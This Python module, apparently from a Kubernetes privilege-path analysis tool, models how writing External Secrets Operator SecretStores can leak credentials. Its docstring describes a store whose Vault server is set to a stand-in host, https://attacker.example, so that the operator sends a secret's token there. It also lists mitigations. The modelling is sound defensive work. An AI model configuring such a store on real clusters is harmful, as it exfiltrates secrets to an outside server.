"""A SecretStore says where the External Secrets Operator goes and with which credential: a Secret of the namespace, or
a ServiceAccount of it, for which the operator makes a token. Whoever may write one names a server of his own, and the
credential arrives there.

## Needs

``create``, ``update`` or ``patch`` on ``secretstores`` of a namespace, or on ``clustersecretstores``, which may name
Secrets and ServiceAccounts of any namespace.

## Exploited

A SecretStore with ``provider.vault.server: https://attacker.example`` and ``auth.tokenSecretRef`` of the Secret that is
wanted. The operator checks a new store at once, and sends the token to do so.

## Closed

Platform engineers write stores, application teams ExternalSecrets. A policy that pins ``server`` to known addresses.

## References

- https://external-secrets.io/latest/guides/threat-model/
- https://external-secrets.io/latest/provider/hashicorp-vault/#token-based-authentication

Not demonstrated: the operator decides.
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.operators import writers
from strongroom.access.way import Way
from strongroom.access.world import World
from strongroom.model.access import Power, Step

_GROUP = "external-secrets.io"


def steps(world: World) -> Iterator[Step]:
    """Yield who has the operator send credentials of a namespace to a server of his own."""
    for resource in ("secretstores", "clustersecretstores"):
        for writer in writers(world, _GROUP, resource):
            for what in (Power.READ_SECRETS, Power.MINT_TOKENS):
                yield writer.to(what, WAY.id, f"writes {resource}")


WAY = Way(
    "secret-store-write", "has the External Secrets Operator log in with it", ("T1528",), steps, demonstrated=False
)
